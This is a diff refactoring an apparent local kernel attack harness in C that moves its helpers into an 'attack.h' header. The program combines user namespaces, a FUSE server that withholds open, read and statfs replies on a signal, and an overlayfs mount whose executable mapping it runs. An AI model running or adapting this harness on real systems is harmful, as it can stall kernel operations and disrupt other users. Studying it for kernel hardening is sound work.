@@ -20,22 +20,14 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/fuse.h>
-#include <sched.h>
-#include <signal.h>
-#include <stdint.h>
-#include <stdio.h>
-#include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
-#include <sys/prctl.h>
 #include <sys/stat.h>
-#include <sys/wait.h>
-#include <unistd.h>
+
+#include "attack.h"
 
 enum {
-	NOBODY = 65534,
-	PAGE = 4096,
 	FILE_NODE = 2,
 	REQUEST_BYTES = 1 << 17,
 };
@@ -51,17 +43,6 @@ static const unsigned char code[] = {
 
 static volatile sig_atomic_t withholding;
 
-static void fail(const char *what)
-{
-	perror(what);
-	exit(1);
-}
-
-static void die_with_parent(void)
-{
-	prctl(PR_SET_PDEATHSIG, SIGKILL);
-}
-
 /* --- the server --- */
 
 static void on_signal(int number)
@@ -72,20 +53,20 @@ static void on_signal(int number)
 
 static void answer(int fuse, const struct fuse_in_header *request, int error, const void *data, size_t length)
 {
-	unsigned char bytes[sizeof(struct fuse_out_header) + 2 * PAGE];
+	unsigned char bytes[sizeof(struct fuse_out_header) + 2 * ATTACK_PAGE];
 	const struct fuse_out_header header = {.len = (uint32_t)(sizeof(header) + length), .error = error, .unique = request->unique};
 
 	memcpy(bytes, &header, sizeof(header));
 	if (length)
 		memcpy(bytes + sizeof(header), data, length);
 	if (write(fuse, bytes, header.len) < 0 && errno != ENOENT)
-		fail("answer");
+		attack_fail("answer");
 }
 
 static struct fuse_attr attributes(uint64_t node)
 {
-	return node == FILE_NODE ? (struct fuse_attr){.ino = node, .size = 2 * PAGE, .blocks = 16, .mode = S_IFREG | 0755, .nlink = 1, .blksize = PAGE}
-				 : (struct fuse_attr){.ino = node, .mode = S_IFDIR | 0755, .nlink = 2, .blksize = PAGE};
+	return node == FILE_NODE ? (struct fuse_attr){.ino = node, .size = 2 * ATTACK_PAGE, .blocks = 16, .mode = S_IFREG | 0755, .nlink = 1, .blksize = ATTACK_PAGE}
+				 : (struct fuse_attr){.ino = node, .mode = S_IFDIR | 0755, .nlink = 2, .blksize = ATTACK_PAGE};
 }
 
 static int is_withheld(const char *kind, const struct fuse_in_header *request, const void *data)
@@ -95,25 +76,25 @@ static int is_withheld(const char *kind, const struct fuse_in_header *request, c
 	if (!withholding)
 		return 0;
 	return (!strcmp(kind, "open") && request->opcode == FUSE_OPEN) || (!strcmp(kind, "statfs") && request->opcode == FUSE_STATFS) ||
-	       ((!strcmp(kind, "read") || !strcmp(kind, "memory")) && request->opcode == FUSE_READ && read->offset < PAGE);
+	       ((!strcmp(kind, "read") || !strcmp(kind, "memory")) && request->opcode == FUSE_READ && read->offset < ATTACK_PAGE);
 }
 
 static void serve_read(int fuse, const struct fuse_in_header *request, const struct fuse_read_in *read)
 {
-	static unsigned char content[2 * PAGE];
+	static unsigned char content[2 * ATTACK_PAGE];
 	const size_t left = read->offset < sizeof(content) ? sizeof(content) - read->offset : 0;
 
-	memcpy(content + PAGE, code, sizeof(code));
+	memcpy(content + ATTACK_PAGE, code, sizeof(code));
 	answer(fuse, request, 0, content + (left ? read->offset : 0), read->size < left ? read->size : left);
 }
 
 static void serve_one(int fuse, const struct fuse_in_header *request, const void *data)
 {
-	const struct fuse_init_out init = {.major = FUSE_KERNEL_VERSION, .minor = 31, .max_readahead = 0, .max_write = PAGE, .time_gran = 1};
+	const struct fuse_init_out init = {.major = FUSE_KERNEL_VERSION, .minor = 31, .max_readahead = 0, .max_write = ATTACK_PAGE, .time_gran = 1};
 	const struct fuse_entry_out entry = {.nodeid = FILE_NODE, .entry_valid = 3600, .attr_valid = 3600, .attr = attributes(FILE_NODE)};
 	const struct fuse_attr_out attr = {.attr_valid = 3600, .attr = attributes(request->nodeid)};
 	const struct fuse_open_out opened = {.fh = 1, .open_flags = FOPEN_KEEP_CACHE};
-	const struct fuse_statfs_out statfs = {.st = {.bsize = PAGE, .frsize = PAGE, .namelen = 255}};
+	const struct fuse_statfs_out statfs = {.st = {.bsize = ATTACK_PAGE, .frsize = ATTACK_PAGE, .namelen = 255}};
 
 	switch (request->opcode) {
 	case FUSE_INIT:
@@ -151,7 +132,7 @@ static pid_t start_server(int fuse, const char *kind)
 
 	if (server)
 		return server;
-	die_with_parent();
+	attack_die_with_parent();
 	signal(SIGUSR1, on_signal);
 	for (;;) {
 		const ssize_t n = read(fuse, bytes, sizeof(bytes));
@@ -176,7 +157,7 @@ static void write_map(pid_t pid, const char *name)
 	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
 	const int fd = open(path, O_WRONLY);
 	if (fd < 0 || write(fd, map, strlen(map)) < 0)
-		fail(path);
+		attack_fail(path);
 	close(fd);
 }
 
@@ -187,7 +168,7 @@ static void enter_namespaces(int users)
 	char byte = 0;
 
 	if (pipe(there) < 0 || pipe(mapped) < 0)
-		fail("pipe");
+		attack_fail("pipe");
 	const pid_t child = fork();
 	if (child) {
 		if (read(there[0], &byte, 1) != 1)
@@ -201,21 +182,14 @@ static void enter_namespaces(int users)
 		waitpid(child, NULL, 0);
 		exit(1);
 	}
-	die_with_parent();
+	attack_die_with_parent();
 	if (unshare((users ? CLONE_NEWUSER : 0) | CLONE_NEWNS) < 0)
-		fail("unshare");
+		attack_fail("unshare");
 	if (write(there[1], &byte, 1) != 1 || read(mapped[0], &byte, 1) != 1)
 		exit(1);
 	if (setresgid(0, 0, 0) < 0 || setresuid(0, 0, 0) < 0)
-		fail("root of the namespace");
-	die_with_parent();
-}
-
-static void become_nobody(void)
-{
-	if (setresgid(NOBODY, NOBODY, NOBODY) < 0 || setresuid(NOBODY, NOBODY, NOBODY) < 0)
-		fail("user");
-	die_with_parent();
+		attack_fail("root of the namespace");
+	attack_die_with_parent();
 }
 
 int main(int argc, char **argv)
@@ -223,39 +197,38 @@ int main(int argc, char **argv)
 	char options[256];
 
 	if (argc < 3 || chdir(argv[1]) < 0)
-		fail("directory");
+		attack_fail("directory");
 	enter_namespaces(!strcmp(argv[2], "open") || !strcmp(argv[2], "read"));
 	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 || mount("none", ".", "tmpfs", 0, NULL) < 0 || chdir(argv[1]) < 0 ||
 	    mkdir("fuse", 0755) < 0 || mkdir("lower", 0755) < 0 || mkdir("merged", 0755) < 0)
-		fail("directories");
+		attack_fail("directories");
 	const int fuse = open("/dev/fuse", O_RDWR);
 	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", fuse);
 	if (fuse < 0 || mount("withheld", "fuse", "fuse.withheld", MS_NOSUID | MS_NODEV, options) < 0)
-		fail("FUSE");
+		attack_fail("FUSE");
 	const pid_t server = start_server(fuse, argv[2]);
 	close(fuse);
 	if (argc > 3) {
 		const int answered = open("fuse/code", O_RDONLY);
 
 		if (answered < 0)
-			fail("fuse/code");
+			attack_fail("fuse/code");
 		close(answered);
 		kill(server, SIGUSR1);
-		become_nobody();
+		attack_drop_privileges();
 		execvp(argv[3], argv + 3);
-		fail(argv[3]);
+		attack_fail(argv[3]);
 	}
 	if (mount("overlay", "merged", "overlay", MS_RDONLY, "lowerdir=fuse:lower") < 0)
-		fail("overlay");
+		attack_fail("overlay");
 	const int file = open("merged/code", O_RDONLY);
-	void (*count)(unsigned int) = (void (*)(unsigned int))mmap(NULL, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, file, PAGE);
+	void (*count)(unsigned int) = (void (*)(unsigned int))mmap(NULL, ATTACK_PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, file, ATTACK_PAGE);
 	if (file < 0 || (void *)count == MAP_FAILED)
-		fail("code");
+		attack_fail("code");
 	count(1);
 	kill(server, SIGUSR1);
-	become_nobody();
-	puts("ready");
-	fflush(stdout);
+	attack_drop_privileges();
+	attack_say_ready();
 	for (;;)
 		count(100000000);
 }
